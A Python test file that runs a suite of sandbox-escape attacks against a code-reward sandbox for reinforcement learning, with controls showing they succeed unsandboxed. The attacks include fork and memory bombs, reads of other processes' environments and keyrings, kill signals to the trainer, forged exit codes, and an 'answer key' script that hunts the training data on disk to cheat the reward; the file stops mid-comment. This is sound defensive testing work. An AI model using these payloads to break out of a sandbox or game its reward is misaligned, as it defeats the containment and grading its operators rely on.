"""The code sandbox (``areal_mega.sandbox``) against an attack suite, through the code reward.

Every attack is model-written code in a ```python block, scored by ``CodeReward`` against one
test whose expected output is "pwned": the attacks print it only when their effect worked from
the inside, so an escape the code can see scores 1 (the answer-key attack: the expected output of
its own test, found in the training dataset on disk). Each attack is also checked from the
outside (listeners that must receive nothing, files that must not exist, a secret that must not
appear, processes that must be gone, reasons that must be the runner's own, this process and the
pool's workers alive). Controls: correct / partly correct code scores 1 / the fraction; the
attacks DO escape without the sandbox -- the ones safe to run so from ``rlimits_only_unsafe``
(the same reward, no namespaces, no filter, as this test's user), the memory ones from a plain
subprocess under the old per-process RLIMIT_AS, the forged reasons as the exit codes and stderr
lines a runner reading them would have believed -- so the checks can fail.

One sandbox (2 workers) serves the whole module; the attacks and the controls run concurrently.
"""

from __future__ import annotations

import asyncio
import ctypes
import os
import secrets
import socket
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import shutil

import pytest

import json

from areal_mega.reward.code import CodeReward
from areal_mega.sandbox import Sandbox, SandboxConfig, namespaces_unavailable
from areal_mega.utils import procs

pytestmark = pytest.mark.slow

MARKER = f"sbxmarker{secrets.token_hex(6)}"  # in the daemons' command lines
SECRET = f"sbxsecret{secrets.token_hex(8)}"  # in this (the trainer's) environment
TIMEOUT_S = 3.0
MEMORY_MB = 64  # the execution's memory cgroup; page faults are slow on these VMs (~50-100 MB/s)
MAX_PROCESSES = 16
REPO = Path(__file__).resolve().parent.parent
QUESTION = f"sbxquestion{secrets.token_hex(6)}"  # the answer-key attack's test input ...
ANSWER = f"sbxanswer{secrets.token_hex(6)}"  # ... and its expected output, in the dataset on disk
KEY_SERIAL: list[int] = []  # the trainer's session-keyring key holding SECRET (set by the fixture)


def block(code: str) -> str:
    return "```python\n" + textwrap.dedent(code).strip("\n") + "\n```"


libc = ctypes.CDLL(None, use_errno=True)
try:
    from areal_mega.sandbox.seccomp import syscall_numbers

    NR = syscall_numbers("keyctl", "add_key", "io_setup", "io_destroy", "io_uring_setup", "userfaultfd",
                         "perf_event_open", "bpf", "clone")
except ImportError:  # no pyseccomp: the sandbox refuses, the fixture skips
    NR = {}


def marker_pids() -> list[int]:
    """Live processes whose command line carries MARKER (the daemons), from /proc."""
    out = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                cmd = Path(f"/proc/{entry}/cmdline").read_bytes()
                state = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[0]
            except OSError:
                continue
            if MARKER.encode() in cmd and state not in ("Z", "X"):
                out.append(int(entry))
    return out


@pytest.fixture(scope="module")
def env():
    if namespaces_unavailable():
        pytest.skip(f"namespaces unavailable: {namespaces_unavailable()}")
    os.environ["AREAL_TEST_SECRET"] = SECRET  # inherited by the sandbox workers too
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    shm = libc.shmget(0, 4096, 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT: a host IPC object to find
    assert shm >= 0 and Path("/proc/sysvipc/shm").read_text().count("\n") > 1
    outside = Path(__file__).resolve().parent / f".sandbox_target_{os.getpid()}"
    outside.mkdir(mode=0o777)
    outside.chmod(0o777)  # world-writable: only the read-only view can stop the write
    # A run in its usual place (configs/grpo_tiny.yaml: runs/<name>/data/train.jsonl, the run's
    # metrics.jsonl beside it), world-readable, with this test's question and answer.
    run = REPO / "runs" / f"sandbox_test_{os.getpid()}"
    (run / "data").mkdir(parents=True)
    sample = {"prompt": "Print the answer.", "tests": [{"input": QUESTION + "\n", "output": ANSWER}]}
    (run / "data" / "train.jsonl").write_text(json.dumps({"prompt": "other", "tests": []}) + "\n" + json.dumps(sample) + "\n")
    (run / "metrics.jsonl").write_text(json.dumps({"step": 1, "secret": SECRET}) + "\n")
    for f in run.rglob("*"):
        f.chmod(0o755 if f.is_dir() else 0o644)
    host_sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)  # a host service's socket file
    host_sock.bind(str(run / "agent.sock"))
    os.chmod(run / "agent.sock", 0o777)  # world-writable: a read-only view does not stop connect()
    host_sock.listen(8)
    host_sock.setblocking(False)
    # The trainer's session keyring (its own, so that nothing else of this user's is touched) with
    # a key the sandbox workers inherit, as they inherit the trainer's.
    libc.syscall.restype = ctypes.c_long
    assert libc.syscall(NR["keyctl"], 1, f"areal_test_{os.getpid()}".encode()) > 0  # JOIN_SESSION_KEYRING
    key = libc.syscall(NR["add_key"], b"user", b"areal_trainer_secret", SECRET.encode(), len(SECRET), -3)
    assert key > 0, ctypes.get_errno()
    KEY_SERIAL[:] = [key]
    reward = CodeReward(SandboxConfig(num_workers=2, timeout_s=TIMEOUT_S, cpu_s=3, memory_mb=MEMORY_MB,
                                      file_size_mb=4, tmpfs_mb=16, max_processes=MAX_PROCESSES,
                                      max_output_bytes=1 << 16))

    async def warm():  # both workers started, so that the suite can check they survive
        return await asyncio.gather(*[reward.sandbox.run("import time; time.sleep(0.5)") for _ in range(2)])

    try:
        # A worker's first execution also starts it: on a loaded machine that can pass TIMEOUT_S, so
        # wait until both have answered once (the condition), not a fixed number of tries.
        deadline = time.monotonic() + 120
        got = asyncio.run(warm())
        while not all(r.ok for r in got):
            assert time.monotonic() < deadline, f"sandbox workers never answered: {got}"
            got = asyncio.run(warm())
        yield {"reward": reward, "listener": listener, "outside": outside, "run": run, "host_sock": host_sock}
    finally:
        reward.close()
        listener.close()
        host_sock.close()
        libc.syscall(NR["keyctl"], 21, key)  # KEYCTL_INVALIDATE
        for f in outside.iterdir():
            f.unlink()
        outside.rmdir()
        shutil.rmtree(run)
        del os.environ["AREAL_TEST_SECRET"]
        libc.shmctl(shm, 0, None)  # IPC_RMID


PRE = "import ctypes, os, socket, sys, time\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\n"
ANSWER_KEY = f"""
    import json, os, sys
    want = sys.stdin.read().strip()
    for top in [{str(REPO)!r}, "/"]:  # where the training data usually is, then everything visible
        for d, subdirs, files in os.walk(top):
            subdirs[:] = [x for x in subdirs if x not in ("proc", "sys", ".git", "__pycache__")]
            for name in files:
                if name.endswith(".jsonl"):
                    try:
                        lines = open(os.path.join(d, name)).read().splitlines()
                    except (OSError, UnicodeDecodeError):
                        continue
                    for line in lines:
                        if want in line:
                            for t in json.loads(line)["tests"]:
                                if t["input"].strip() == want:
                                    print(t["output"])
                                    raise SystemExit
    print("not found")
"""


def attacks(port: int, tmp: Path, outside: Path, run: Path) -> dict[str, str]:
    """kind -> code that prints "pwned" only if its effect worked (ANSWER_KEY aside)."""
    me = os.getpid()
    (tmp / "trainer_secret.txt").write_text(SECRET)
    (tmp / "trainer_secret.txt").chmod(0o644)
    daemon = f"""
        import os, sys, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(30)", "{MARKER}"])
            os._exit(0)
        time.sleep(0.3)
    """
    home_cache = Path.home() / ".cache" / "areal_mega"
    return {
        "infinite_loop": "while True:\n    pass",
        "memory_bomb": "x = bytearray(8 << 30)\nprint('pwned')",
        "memory_creep": "chunks = []\nwhile True:\n    chunks.append(bytearray(1 << 24))",
        "fork_bomb": """
            import os
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        """,
        "network_connect": f"""
            import socket
            s = socket.create_connection(("127.0.0.1", {port}), timeout=1)
            s.sendall(b"exfiltrated")
            print("pwned")
        """,
        "write_outside_tmp": f"open({str(tmp / 'escaped.txt')!r}, 'w').write('x')\nprint('pwned')",
        "write_outside_repo": f"open({str(outside / 'escaped.txt')!r}, 'w').write('x')\nprint('pwned')",
        "read_trainer_env": f"""
            import os, glob
            seen = repr(dict(os.environ))
            for path in ["/proc/%d/environ" % os.getppid(), "/proc/1/environ", "/proc/{me}/environ"] + glob.glob("/proc/*/environ"):
                try:
                    seen += open(path, "rb").read().decode(errors="replace")
                except OSError as e:
                    seen += repr(e)
            print("pwned" if "{SECRET}" in seen else seen[:2000])
        """,
        "read_trainer_files": f"print(open({str(tmp / 'trainer_secret.txt')!r}).read())\nprint('pwned')",
        "kill_parent": "import os\nos.kill(os.getppid(), 9)\nprint('pwned')",
        "kill_trainer": f"import os\nos.kill({me}, 9)\nprint('pwned')",
        "kill_everything": "import os\nos.kill(-1, 9)\nprint('pwned')",  # ESRCH: it may signal nothing else
        "setuid_root": "import os\nos.setuid(0)\nprint('pwned')",
        "host_ipc": "print('pwned' if open('/proc/sysvipc/shm').read().count(chr(10)) > 1 else 'no shm')",
        "fill_disk_one_file": """
            with open("big", "wb") as f:
                while True:
                    f.write(b"x" * (1 << 20))
        """,
        "fill_disk_many_files": """
            i = 0
            while True:
                with open("f%d" % i, "wb") as f:
                    f.write(b"x" * ((1 << 20) - 1))
                i += 1
        """,
        "flood_stdout": "while True:\n    print('x' * 1000)",
        "daemon_then_exit": daemon,
        "daemon_then_hang": textwrap.dedent(daemon) + "time.sleep(600)\n",
        # -- the view: what a default-deny root leaves out
        "read_repository": f"print('pwned' if 'import' in open({str(REPO / 'areal_mega' / 'sandbox' / '__init__.py')!r}).read() else '')",
        "read_run_dir": f"print('pwned' if {SECRET!r} in open({str(run / 'metrics.jsonl')!r}).read() else '')",
        "read_home_cache": f"import os\nprint('pwned' if os.listdir({str(home_cache)!r}) else '')",
        "host_root_visible": "import os\nprint('pwned' if any(os.path.exists(p) for p in ('/etc/passwd', '/usr/bin/env', '/work', '/home')) else sorted(os.listdir('/')))",
        "proc_root_escape": "import os\nopen('/proc/%d/root/etc/passwd' % os.getppid()).read()\nprint('pwned')",
        "host_unix_socket": f"""
            import socket
            s = socket.socket(socket.AF_UNIX)
            s.connect({str(run / 'agent.sock')!r})
            s.sendall(b"exfiltrated")
            print("pwned")
        """,
        "pty_alloc": "import os\nm, s = os.openpty()\nprint('pwned')",
        "tmpfs_inodes": "for i in range(5000):\n    open('e%d' % i, 'w').close()\nprint('pwned')",
        # -- kernel objects that namespaces do not cover (the seccomp filter)
        "session_keyring_read": PRE + f"""
buf = ctypes.create_string_buffer(256)
n = libc.syscall({NR['keyctl']}, 11, {KEY_SERIAL[0] if KEY_SERIAL else 0}, buf, 256)  # KEYCTL_READ the trainer's key
print("pwned" if n > 0 and {SECRET!r}.encode() in buf.raw else ("read", n, ctypes.get_errno()))
""",
        "user_keyring_write": PRE + f"""
k = libc.syscall({NR['add_key']}, b"user", b"areal_attack", b"persist", 7, -4)  # KEY_SPEC_USER_KEYRING
if k > 0:
    libc.syscall({NR['keyctl']}, 9, k, -4)  # unlink it again (the control runs as the test's user)
print("pwned" if k > 0 else ("add_key", ctypes.get_errno()))
""",
        "vsock_bind": PRE + f"s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)\ns.bind((socket.VMADDR_CID_ANY, {20000 + me % 20000}))\nprint('pwned')",
        "io_setup": PRE + f"""
ctx = ctypes.c_ulong(0)
r = libc.syscall({NR['io_setup']}, 1, ctypes.byref(ctx))
if r == 0:
    libc.syscall({NR['io_destroy']}, ctx)
print("pwned" if r == 0 else ctypes.get_errno())
""",
        "io_uring": PRE + f"p = (ctypes.c_char * 120)()\nfd = libc.syscall({NR['io_uring_setup']}, 4, p)\nprint('pwned' if fd >= 0 else ctypes.get_errno())",
        "userfaultfd": PRE + f"fd = libc.syscall({NR['userfaultfd']}, os.O_CLOEXEC)\nprint('pwned' if fd >= 0 else ctypes.get_errno())",
        "perf_event_open": PRE + f"""
import struct
attr = ctypes.create_string_buffer(struct.pack("IIQ", 1, 128, 0) + bytes(112))  # SOFTWARE, CPU_CLOCK
fd = libc.syscall({NR['perf_event_open']}, attr, 0, -1, -1, 0)
print("pwned" if fd >= 0 else ctypes.get_errno())
""",
        "bpf_map": PRE + f"""
import struct
attr = ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1) + bytes(112))  # BPF_MAP_TYPE_ARRAY
fd = libc.syscall({NR['bpf']}, 0, attr, 128)  # BPF_MAP_CREATE
print("pwned" if fd >= 0 else ctypes.get_errno())
""",
        "user_namespace": PRE + "print('pwned' if libc.unshare(0x10000000) == 0 else ctypes.get_errno())",
        "clone_new_user": PRE + f"""
pid = libc.syscall({NR['clone']}, 0x10000000 | 17, 0, 0, 0, 0)  # CLONE_NEWUSER | SIGCHLD
if pid == 0:
    os._exit(0)
if pid > 0:
    os.waitpid(pid, 0)
print("pwned" if pid > 0 else ctypes.get_errno())
""",
        "mount_namespace": PRE + """
r = libc.unshare(0x20000)  # CLONE_NEWNS (then private, so that the control's mount stays its own)
if r == 0:
    libc.mount(None, b"/", None, ctypes.c_ulong((1 << 18) | (1 << 14)), None)
    r = libc.mount(b"tmpfs", os.getcwd().encode(), b"tmpfs", ctypes.c_ulong(0), None)
print("pwned" if r == 0 else ctypes.get_errno())
""",
        "netlink_socket": PRE + "s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\nprint('pwned')",
        "packet_socket": PRE + "s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)\nprint('pwned')",
        "ptrace_child": PRE + """
pid = os.fork()
if pid == 0:
    time.sleep(5)
    os._exit(0)
r = libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
os.kill(pid, 9)
os.waitpid(pid, 0)
print("pwned" if r == 0 else ctypes.get_errno())
""",
        # -- memory outside a per-process limit
        "memfd_memory": """
            import os
            fds = [os.memfd_create("m") for _ in range(50)]  # 3 MiB each: under RLIMIT_FSIZE too
            for fd in fds:
                for _ in range(3):
                    os.write(fd, b"x" * (1 << 20))
            print("pwned")
        """,
        "multi_process_memory": """
            import os, time
            pids = []
            for _ in range(4):
                pid = os.fork()
                if pid == 0:
                    x = bytearray(24 << 20)
                    time.sleep(0.5)
                    os._exit(0)
                pids.append(pid)
            codes = [os.waitstatus_to_exitcode(os.waitpid(p, 0)[1]) for p in pids]
            print("pwned" if codes == [0] * 4 else codes)
        """,
        "thread_bomb": f"""
            import threading
            ev, n = threading.Event(), 0
            try:
                for _ in range(100):
                    threading.Thread(target=ev.wait, daemon=True).start()
                    n += 1
            except RuntimeError:
                pass
            ev.set()
            print("pwned" if n >= {MAX_PROCESSES} else n)
        """,
        # -- forged reasons: what a runner reading exit codes and stderr would have believed
        "forged_sandbox_error": "import sys\nsys.stderr.write('sandbox set-up failed: forged\\n')\nsys.exit(121)",
        "forged_timeout": "import sys\nsys.exit(128 + 24)",  # "SIGXCPU"
        "forged_file_size": "import sys\nsys.stderr.write('OSError: [Errno 27] File too large\\n')\nsys.exit(128 + 25)",
        "forged_memory": "import sys\nsys.stderr.write('MemoryError\\n')\nsys.exit(1)",
        "forged_killed": "import sys\nsys.exit(128 + 9)",
    }


# Attacks that escape without the sandbox, safe to run as this test's user from the unsafe mode
# (the same reward and runner, no namespaces, no filter): each must score 1 there.
UNSAFE_CONTROLS = ("read_repository", "read_run_dir", "read_home_cache", "host_root_visible", "proc_root_escape",
                   "host_unix_socket", "pty_alloc", "tmpfs_inodes", "session_keyring_read", "user_keyring_write",
                   "vsock_bind", "io_setup", "io_uring", "userfaultfd", "perf_event_open", "bpf_map",
                   "user_namespace", "clone_new_user", "mount_namespace", "netlink_socket", "packet_socket",
                   "ptrace_child", "network_connect", "read_trainer_env")
# Attacks on the old per-process limits: a plain subprocess under the old limit and no cgroup
# must print "pwned" (memory: RLIMIT_AS = MEMORY_MB per process; threads: RLIMIT_NPROC =
# MAX_PROCESSES, which binds per uid, and not root).
PLAIN_CONTROLS = {"memfd_memory": "RLIMIT_AS", "multi_process_memory": "RLIMIT_AS", "thread_bomb": "RLIMIT_NPROC"}
# The forged reasons, as (exit code, stderr's last line) from a plain subprocess: what the old
# runner turned into sandbox_error, timeout, file_size, memory, killed.
FORGED = {"forged_sandbox_error": (121, "sandbox set-up failed: forged"), "forged_timeout": (152, ""),
          "forged_file_size": (153, "OSError: [Errno 27] File too large"), "forged_memory": (1, "MemoryError"),
          "forged_killed": (137, "")}
PWNED = {"tests": [{"input": "", "output": "pwned"}]}
ANSWER_SAMPLE = {"tests": [{"input": QUESTION + "\n", "output": ANSWER}]}


def test_attack_suite(env, tmp_path):
    reward, listener, outside, run = env["reward"], env["listener"], env["outside"], env["run"]
    port = listener.getsockname()[1]
    kinds = attacks(port, tmp_path, outside, run)
    workers_before = {w.proc.pid for w in reward.sandbox.pool._all}
    assert len(workers_before) == 2
    assert reward.sandbox.cgroup_unavailable is None, reward.sandbox.cgroup_unavailable  # root on Linux here
    control = CodeReward(SandboxConfig(mode="rlimits_only_unsafe", num_workers=2, timeout_s=60.0))

    async def run_all():
        sandboxed = [reward.evaluate("", block(code), PWNED) for code in kinds.values()]
        sandboxed.append(reward.evaluate("", block(ANSWER_KEY), ANSWER_SAMPLE))
        controls = [control.evaluate("", block(kinds[k]), PWNED) for k in UNSAFE_CONTROLS]
        controls.append(control.evaluate("", block(ANSWER_KEY), ANSWER_SAMPLE))
        res = await asyncio.gather(*sandboxed, *controls)
        return res[:len(sandboxed)], res[len(sandboxed):]

    t0 = time.monotonic()
    try:
        inside, outside_res = asyncio.run(run_all())
    finally:
        control.close()
    wall = time.monotonic() - t0
    left = marker_pids()  # right after the calls: nothing may be left running
    connections = []
    for server in (listener, env["host_sock"]):
        while True:
            try:
                conn = server.accept()[0]  # a connection that reached us, if any
            except BlockingIOError:
                break
            connections.append(conn.recv(100))
            conn.close()
    results = dict(zip([*kinds, "answer_key"], inside))
    controls = dict(zip([*UNSAFE_CONTROLS, "answer_key"], outside_res))

    escaped = {}
    for kind, res in results.items():
        if res.score != 0.0 or res.info["reasons"] in ([], ["ok"]):
            escaped[kind] = f"score {res.score}, {res.info}"
    for kind in FORGED:
        if results[kind].info["reasons"] != ["runtime_error"]:
            escaped[kind] = f"the forged reason was believed: {results[kind].info}"
    # from a sandboxed run, a connection cannot have reached us: the controls' connections (each
    # control that connects sends b"exfiltrated" once) are all there is
    if len(connections) > sum(controls[k].score == 1.0 for k in ("network_connect", "host_unix_socket")):
        escaped["connect"] = f"the listeners received {connections}"
    for target in (tmp_path / "escaped.txt", outside / "escaped.txt"):
        if target.exists():
            escaped["write_outside"] = f"{target} exists"
    if left:
        escaped["daemon"] = f"still running: {left}"
        procs.stop_pids(left, grace_s=0.0)
    table = {k: (r.score, r.info["reasons"][0] if r.info["reasons"] else "ok") for k, r in results.items()}
    print(f"\nsandbox attacks: tried {len(results)}, escaped {len(escaped)} ({wall:.1f} s with the controls)")
    for kind, (score, reason) in table.items():
        ctl = controls.get(kind)
        print(f"  {kind:22s} score {score}  reason {reason:14s}" + (f" control {ctl.score}" if ctl else ""))
    assert not escaped, escaped
    assert len(results) >= 35
    # Controls: without the sandbox the attacks work (so the checks above can fail).
    not_escaping = {k: r.info for k, r in controls.items() if r.score != 1.0}
    assert not not_escaping, not_escaping
    assert len(connections) == 2 and set(connections) == {b"exfiltrated"}
    expected = {"infinite_loop": "timeout", "memory_bomb": "runtime_error", "memory_creep": "memory",
                "fork_bomb": "timeout", "network_connect": "runtime_error", "flood_stdout": "output_limit",
                "fill_disk_one_file": "runtime_error", "fill_disk_many_files": "runtime_error",
                "kill_parent": "runtime_error", "setuid_root": "runtime_error", "kill_everything": "runtime_error",
                "daemon_then_hang": "timeout", "daemon_then_exit": "wrong_answer", "host_ipc": "wrong_answer",
                "answer_key": "wrong_answer", "memfd_memory": "memory", "multi_process_memory": "memory",
                "thread_bomb": "wrong_answer", "tmpfs_inodes": "runtime_error", "pty_alloc": "runtime_error",
                "host_unix_socket": "runtime_error", "read_run_dir": "runtime_error",
                "session_keyring_read": "wrong_answer", "io_setup": "wrong_answer", "vsock_bind": "runtime_error"}
    # Reasons that also end an attack with score 0, depending on the machine and its load: under
    # extreme load (hundreds on 2 cores) faulting 64 MiB (~50-100 MB/s on these VMs) or walking
    # the view can outlast the 3 s timeout (the timer's reason); the fork bomb's 16 Python
    # processes dirty their copy-on-write heaps, and the 64 MiB cgroup's OOM killer may act before
    # the timer (an Intel AMX host under the suite) -- its process limit is test_fork_bomb_is_bounded's.
    also = {"memory_creep": {"timeout"}, "memfd_memory": {"timeout"}, "multi_process_memory": {"timeout"},
            "answer_key": {"timeout"}, "fork_bomb": {"memory"}}
    wrong = {k: (table[k][1], want) for k, want in expected.items()
             if table[k][1] != want and table[k][1] not in also.get(k, ())}
    assert not wrong, wrong
    # The pool survived: the same workers (no attack reached them), and they still work.
    assert {w.proc.pid for w in reward.sandbox.pool._all} == workers_before
    assert procs.alive(workers_before) == workers_before
    ok = asyncio.run(reward.evaluate("", block("print(input())"), {"tests": [{"input": "alive\n", "output": "alive"}]}))
    assert ok.score == 1.0


def test_denied_calls_fail_with_eperm(env):
    """The filter's answer is EPERM, seen from inside (one execution, every denied call)."""
    code = PRE + f"""
import struct
out = {{}}
def err(r):
    return 0 if r >= 0 else ctypes.get_errno()
out["keyctl"] = err(libc.syscall({NR['keyctl']}, 0, -3, 0))
out["add_key"] = err(libc.syscall({NR['add_key']}, b"user", b"k", b"v", 1, -3))
out["io_setup"] = err(libc.syscall({NR['io_setup']}, 1, ctypes.byref(ctypes.c_ulong(0))))
out["io_uring_setup"] = err(libc.syscall({NR['io_uring_setup']}, 4, (ctypes.c_char * 120)()))
out["userfaultfd"] = err(libc.syscall({NR['userfaultfd']}, 0))
out["bpf"] = err(libc.syscall({NR['bpf']}, 0, ctypes.create_string_buffer(128), 128))
out["unshare"] = err(libc.unshare(0x10000000))
out["ptrace"] = err(libc.ptrace(0, 0, 0, 0))
out["mount"] = err(libc.mount(b"none", b"/tmp/work", b"tmpfs", ctypes.c_ulong(0), None))
for fam in ("AF_VSOCK", "AF_NETLINK", "AF_PACKET"):
    try:
        socket.socket(getattr(socket, fam), socket.SOCK_RAW if fam != "AF_VSOCK" else socket.SOCK_STREAM)
        out[fam] = 0
    except OSError as e:
        out[fam] = e.errno
print(sorted(out.items()))
"""
    res = asyncio.run(env["reward"].sandbox.run(code))
    assert res.ok, res
    got = dict(eval(res.stdout))
    assert got == {k: 1 for k in got} and len(got) == 12, got


def test_controls_plain_subprocess(env, tmp_path):
    """The memory attacks escape the old per-process limit; the forged reasons are what a runner
    reading exit codes and stderr would have believed."""
    kinds = attacks(1, tmp_path, tmp_path, env["run"])
    from concurrent.futures import ThreadPoolExecutor

    def plain(kind: str, limit: str | None):  # the program sets the old limit on itself first
        value = MEMORY_MB << 20 if limit == "RLIMIT_AS" else MAX_PROCESSES
        pre = f"import resource\nresource.setrlimit(resource.{limit}, ({value}, {value}))\n" if limit else ""
        return procs.run([sys.executable, "-I", "-S", "-c", pre + textwrap.dedent(kinds[kind])], timeout=120)

    runs = {k: v for k, v in PLAIN_CONTROLS.items() if v != "RLIMIT_NPROC" or os.geteuid() == 0}
    runs.update({k: None for k in FORGED})  # RLIMIT_NPROC binds a non-root user: no control then
    with ThreadPoolExecutor(len(runs)) as ex:  # all at once: the memory ones wait on page faults
        outs = dict(zip(runs, ex.map(plain, runs, runs.values())))
    for kind in PLAIN_CONTROLS.keys() & runs.keys():
        assert outs[kind].stdout.strip() == "pwned", (kind, outs[kind])
    for kind, (code, line) in FORGED.items():
        out = outs[kind]
        assert out.returncode == code and (out.stderr.strip().splitlines() or [""])[-1] == line, (kind, out)


COUNT_FORKS = textwrap.dedent("""
    import os, time
    n = 0
    try:
        for _ in range(40):
            if os.fork() == 0:
                time.sleep(1)
                os._exit(0)
            n += 1
    except OSError:
        pass
    print(n)
""")


def test_fork_bomb_is_bounded(env):
    """The process limit binds (it would not for root: see the unsafe-mode test): the code
    counts its own forks."""
    res = asyncio.run(env["reward"].sandbox.run(COUNT_FORKS))
    assert res.ok, res
    print(f"\nfork bomb: {res.stdout.strip()} forks succeeded under max_processes=16")
    assert 0 < int(res.stdout) < 16  # max_processes=16 counts the main process too


def test_positive_controls(env):
    reward = env["reward"]
    tests = [{"input": "2 3\n", "output": "5"}, {"input": "10 -4\n", "output": "6"},
             {"input": "1 1\n", "output": "2"}, {"input": "0 0\n", "output": "0"}]
    good = block("a, b = map(int, input().split())\nprint(a + b)")
    part = block("a, b = map(int, input().split())\nprint(a + b if a < 2 else 5)")  # tests 1, 3, 4
    bad_syntax = block("def f(:\n    pass")

    async def run():
        return await asyncio.gather(*[reward.evaluate("", c, {"tests": tests}) for c in (good, part, bad_syntax, "none")])

    good_r, part_r, syn_r, none_r = asyncio.run(run())
    assert (good_r.score, good_r.info["fraction_passed"], good_r.info["reasons"]) == (1.0, 1.0, [])
    assert (part_r.score, part_r.info["reasons"]) == (0.75, ["wrong_answer"])
    assert (syn_r.score, syn_r.info["reasons"]) == (0.0, ["syntax_error"] * 4)
    assert none_r.info["reasons"] == ["no_code"]
    assert asyncio.run(reward("", good, {"tests": tests})) == 1.0  # the float interface


def test_controls_escape_without_sandbox(tmp_path):
    """The same attacks from a plain subprocess DO escape: the suite's checks can fail."""
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(10)
    port = listener.getsockname()[1]
    env = {**os.environ, "AREAL_TEST_SECRET": SECRET}
    code = attacks(port, tmp_path, tmp_path, tmp_path)
    try:
        out = procs.run([sys.executable, "-c", textwrap.dedent(code["network_connect"])], timeout=30, env=env)
        conn = listener.accept()[0]
        assert conn.recv(100) == b"exfiltrated" and "pwned" in out.stdout
        conn.close()
    finally:
        listener.close()
    out = procs.run([sys.executable, "-c", f"import os; os.kill({os.getpid()}, 0); print('pwned')"], timeout=30)
    assert "pwned" in out.stdout  # the trainer is visible and signalable (signal 0: no harm done)
    out = procs.run([sys.executable, "-c", code["write_outside_tmp"]], timeout=30)
    assert (tmp_path / "escaped.txt").exists()
    out = procs.run([sys.executable, "-c", textwrap.dedent(code["read_trainer_env"])], timeout=30, env=env)
    assert "pwned" in out.stdout
    # The old reward's containment: its own session, the group killed at the end. (procs.run's
    # wrapper is a subreaper and would catch this daemon; the sandbox must not rely on that.)
    p = procs.spawn([sys.executable, "-c", textwrap.dedent(code["daemon_then_exit"])], wrap=False)
    p.wait(timeout=30)
    procs.signal_group(p.pid, 9)
    deadline = time.monotonic() + 10
    while not (left := marker_pids()) and time.monotonic() < deadline:
        time.sleep(0.05)  # the daemon's exec of sh
    assert left, "a plain subprocess's setsid daemon should outlive its group's kill"
    procs.stop_pids(left, grace_s=0.0)


def test_unsafe_mode_runs_with_rlimits_only():
    with Sandbox(SandboxConfig(mode="rlimits_only_unsafe", num_workers=1, timeout_s=3.0, max_processes=16,
                               memory_mb=MEMORY_MB)) as sb:
        ok = sb.run_sync("print(input()[::-1])", "abc\n")
        loop = sb.run_sync("while True: pass")
        mem = sb.run_sync("x = bytearray(1 << 30)")  # touched (bytearray zero-fills): the cgroup counts it
        forks = sb.run_sync(COUNT_FORKS)
        syntax = sb.run_sync("def f(:")
        cgroup = sb.cgroup_unavailable is None
    assert (ok.reason, ok.stdout) == ("ok", "cba\n")
    assert loop.reason == "timeout" and syntax.reason == "syntax_error"
    assert mem.reason == ("memory" if cgroup else "runtime_error"), mem
    if cgroup:  # the pids cgroup binds whatever the uid (the unsafe mode runs as the trainer's user)
        assert forks.ok and 0 < int(forks.stdout) < 16, forks
    elif os.geteuid() == 0:  # without it, the control for the uid switch: RLIMIT_NPROC does not bind root
        assert forks.ok and int(forks.stdout) == 40, forks


def test_python_and_user_tools_from_config(tmp_path, monkeypatch):
    """The registry built from config: python runs in the sandbox (its own pool), a user tool by
    import path; the tool workflow dispatches a <python> call and sees its output."""
    (tmp_path / "tools_t.py").write_text("def shout(text: str, times: int = 1) -> str:\n"
                                         "    '''Upper-case a text.'''\n    return text.upper() * times\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    from areal_mega.api.engine import InferenceEngine
    from areal_mega.api.io import GenerationResult
    from areal_mega.agent_tools import ToolConfig, build_tools
    from areal_mega.workflows import WorkflowConfig, build_workflow

    reg = build_tools([ToolConfig(kind="python", sandbox=SandboxConfig(num_workers=1, timeout_s=2.0)),
                       ToolConfig(kind="function", function="tools_t:shout")])
    try:
        assert reg.names() == ["python", "shout"]
        assert reg.schemas()[1]["function"]["description"] == "Upper-case a text."
        assert asyncio.run(reg.call("shout", {"text": "ab", "times": 2})) == "ABAB"
        assert asyncio.run(reg.call("python", {"code": "print(sum(range(10)))"})) == "45\n"
        escaped = asyncio.run(reg.call("python", {"code": "import socket; socket.create_connection(('127.0.0.1', 1))"}))
        assert escaped.startswith("error (runtime_error):") and "Network is unreachable" in escaped
        assert asyncio.run(reg.call("python", {"code": "while True: pass"})).startswith("error (timeout)")

        class Tok:
            eos_token_id = 3

            def encode(self, text, add_special_tokens=False):
                return [ord(c) + 10 for c in text]

            def decode(self, ids, skip_special_tokens=True):
                return "".join(chr(i - 10) for i in ids if i >= 10)

        class Engine(InferenceEngine):
            async def agenerate(self, req):
                text = Tok().decode(req.input_ids)
                out = "<python>print(6 * 7)</python>" if "<result>" not in text else "so 42"
                ids = Tok().encode(out) + [3]
                return GenerationResult(list(req.input_ids), ids, [-0.1] * len(ids), [0] * len(ids), "stop")

            async def pause(self): ...
            async def resume(self): ...
            def get_version(self): return 0
            def set_version(self, v): ...

        async def reward(prompt, completion, data):
            return float(completion.endswith("so 42"))

        wf = build_workflow(WorkflowConfig(kind="tool", group_size=1), Tok(), reward, reg)
        (t,) = asyncio.run(wf.arun_episode(Engine(), {"id": "q", "prompt": "Q:"}))
        assert t.info["completion"] == "<python>print(6 * 7)</python><result>42\n</result>so 42" and t.reward == 1.0
    finally:
        reg.close()


# -- Channels between executions (issue #36): a writer sample that has the answer and a reader
# sample that has not, over state the executions share -- the page cache of the read-only view,
# watches on it, host flushes, /proc's host-wide facts -- and the answer key through extra_paths.
# Each pair also runs without the sandbox (the same programs, the sandbox's interpreter, plain
